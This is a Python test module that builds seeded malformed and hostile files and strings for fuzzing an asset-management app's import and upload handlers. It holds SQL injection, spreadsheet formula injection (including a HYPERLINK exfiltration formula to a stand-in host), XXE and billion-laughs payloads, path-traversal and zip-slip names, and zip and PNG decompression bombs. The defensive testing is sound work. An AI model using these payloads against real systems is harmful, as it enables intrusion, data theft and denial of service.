"""Files and texts meant to do harm, made from a seed.

Each names the doors it was made for; :mod:`tests.doors` tries them.
"""

import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

from cryptography.hazmat.primitives.serialization import Encoding

from reports import keys
from tests.office import NOW, PASSWORD, Office

SAMPLES = Path(__file__).parent / "data"
TEXTS = (
    "'; DROP TABLE bookings; --",
    '" OR 1=1 UNION SELECT password_hash FROM people --',
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://contoh.invalid/"&A1)',
    "@SUM(1+1)*cmd|' /C notepad'!A0",
    "<b>tebal</b><a href='file:///etc/passwd'>x</a>",
    '<img src="file:///etc/passwd"/><font size="900">',
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "{{7*7}} ${7*7} %(x)s %n %s {0.__class__}",
    "\u202egnp.exe\u202c \u200b\u2066tersembunyi\u2069",
    "nul\x00 lonceng\x07 \x1b[31mmerah\x1b[0m",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "A" * 100_000,
    "\ufdfd" * 500,
    "e\u0301\u0301\u0301" * 400,
    "\ud7ff\ue000\U0010ffff",
    "calon bupati " * 2_000,
)
NAMES = (
    "../../keluar.txt",
    "/etc/keluar.txt",
    "C:\\keluar.txt",
    "keys/../../keluar.txt",
    "keys/\u202ekeluar.txt",
    "reports/CON",
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + "A" * 1_000
    + '">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8))
    + "]><x>&i;</x>"
)
_CIRCULAR = """
- id: SE-1
  title: Aset tidak dipinjamkan untuk kegiatan partai
  region: "51"
  rule: barred
  starts_on: 2024-09-25
  names: []
"""
_PNG = b"\x89PNG\r\n\x1a\n"
_BOMB = 200_000_000  # bytes that a part of a zip unpacks to


@dataclass(frozen=True)
class Sent:
    """One file somebody sent, and the doors it was made for."""

    path: Path
    doors: tuple[str, ...]


def originals(office: Office, room: Path) -> dict[str, tuple[str, ...]]:
    """Make one good file for each kind of door, and return the doors by name."""
    from app.backups import making
    from app.ledger import bundle

    with office.database.read() as session:
        bundle.pack(session, room / "bukti.zip")
    making.write(
        office.database, office.paths, room / "c.cadangan", passphrase=None, at=NOW
    )
    sheet = ("assets", "requests", "candidates", "register", "preview")
    text = ("note", "json", "policies")
    kinds = {"bukti.zip": ("bundle",), "c.cadangan": ("parcel",)}
    for name in ("kib_c.xlsx", "kib_c.csv", "daftar_barang_ebmd.csv"):
        (room / name).write_bytes((SAMPLES / "kib" / name).read_bytes())
        kinds[name] = sheet
    signed = SAMPLES / "pdf" / "valid" / "two_signers_p256.pdf"
    (room / "dua.pdf").write_bytes(signed.read_bytes())
    kinds["dua.pdf"] = ("pdf", "scan", "attachment")
    (room / "lambang.png").write_bytes(_png(640, 480, b"\x7f"))
    kinds["lambang.png"] = ("picture", "scan", "attachment")
    held, pem = _certificate()
    (room / "kunci.p12").write_bytes(held)
    (room / "otoritas.pem").write_bytes(pem)
    kinds |= {"kunci.p12": ("pkcs12",), "otoritas.pem": ("certificate",)}
    (room / "pageh.db").write_bytes(office.paths.database.read_bytes())
    kinds["pageh.db"] = ("database", "bundle")
    request = {"purpose": "Rapat", "organisation": "Dinas", "region": "51"}
    for name, content in {
        "minta.json": json.dumps(request),
        "pageh.toml": 'theme = "dark"\n',
        "edaran.yaml": _CIRCULAR,
        "catatan.txt": "bmd/x\n12\nAAAA\n\n— bmd/x AAAA\n",
    }.items():
        (room / name).write_text(content, encoding="utf-8")
        kinds[name] = ("settings",) if name.endswith("toml") else text
    return kinds


def _certificate() -> tuple[bytes, bytes]:
    """Return a key with its certificate as PKCS#12, and the certificate as PEM."""
    from tests.reports.notary import office as signing_office

    held = signing_office().leader
    pem = held.certificate.public_bytes(Encoding.PEM)
    return keys.make_pkcs12(held, PASSWORD, name="Contoh"), pem


def files(
    room: Path, kinds: Mapping[str, tuple[str, ...]], count: int, seed: int
) -> Iterator[Sent]:
    """Make so many files, each another way of spoiling one of the good ones."""
    dice = random.Random(seed)
    ways: tuple[Callable[[bytes, random.Random], bytes], ...] = (
        _cut,
        _rotten,
        _stuffed,
        _doubled,
        _bombed,
        _laughing,
        _escaping,
        _wide,
        _noise,
    )
    names = sorted(kinds)
    for number in range(count):
        name = names[number % len(names)]
        way = ways[(number // len(names)) % len(ways)]
        path = room / "kiriman" / f"{number}{Path(name).suffix}"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(way((room / name).read_bytes(), dice))
        yield Sent(path, kinds[name])


def _cut(content: bytes, dice: random.Random) -> bytes:
    return content[: dice.randrange(len(content))]


def _rotten(content: bytes, dice: random.Random) -> bytes:
    rotten = bytearray(content)
    for _ in range(dice.choice((1, 20, 400))):
        rotten[dice.randrange(len(rotten))] = dice.randrange(256)
    return bytes(rotten)


def _stuffed(content: bytes, dice: random.Random) -> bytes:
    """Put a hostile text somewhere; into a cell where there are cells."""
    text = dice.choice(TEXTS).encode("utf-8", "surrogatepass")
    if content.startswith(b"PK"):
        return _zip_with(
            content, lambda _name, part: part.replace(b"</t>", text + b"</t>")
        )
    at = dice.randrange(len(content) + 1)
    return content[:at] + text + content[at:]


def _doubled(content: bytes, dice: random.Random) -> bytes:
    return content + content[dice.randrange(len(content)) :]


def _bombed(content: bytes, dice: random.Random) -> bytes:
    """Let one part of a zip unpack to far more than it is; else: endless lines.

    A picture claims an area that nobody could draw, or draws a large one.
    """
    if content.startswith(_PNG):
        side = dice.choice((6_000, 12_000, 60_000))
        return _png(side, side, b"\0", rows=min(side, 12_000))
    if not content.startswith(b"PK"):
        many = dice.choice((2_000, 20_000, 100_000))
        return content + b"\n".join([dice.choice((b"{", b"[", b'"', b";"))] * many)
    victim = dice.choice(zipfile.ZipFile(io.BytesIO(content)).namelist())
    bomb = b"0" * _BOMB
    return _zip_with(content, lambda name, part: bomb if name == victim else part)


def _png(width: int, height: int, shade: bytes, *, rows: int = 0) -> bytes:
    """Make a grey picture; it may claim more rows than it has."""
    drawn = zlib.compress((b"\0" + shade * width) * (rows or height), 1)
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", drawn), (b"IEND", b""))
    return _PNG + b"".join(
        struct.pack(">I", len(body))
        + name
        + body
        + struct.pack(">I", zlib.crc32(name + body))
        for name, body in parts
    )


def _laughing(content: bytes, dice: random.Random) -> bytes:
    if not content.startswith(b"PK"):
        return LAUGHS.encode()
    parts = zipfile.ZipFile(io.BytesIO(content)).namelist()
    victim = dice.choice([n for n in parts if n.endswith(".xml")] or parts)
    return _zip_with(
        content, lambda name, part: LAUGHS.encode() if name == victim else part
    )


def _escaping(content: bytes, dice: random.Random) -> bytes:
    """Name a part of a zip, or a field, after a place outside."""
    name = dice.choice(NAMES)
    if not content.startswith(b"PK"):
        return content.replace(b"a", name.encode(), 3)
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as parcel:
        parcel.writestr(name, b"keluar")
    return target.getvalue()


def _wide(content: bytes, dice: random.Random) -> bytes:
    return dice.choice((b";", b",", b"\t")) * 1_000_000 + b"\n" + content


def _noise(content: bytes, dice: random.Random) -> bytes:
    return content[:8] + dice.randbytes(dice.choice((0, 9, 4_000, 400_000)))


def _zip_with(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as made,
    ):
        for name in source.namelist():
            made.writestr(name, change(name, source.read(name)))
    return target.getvalue()
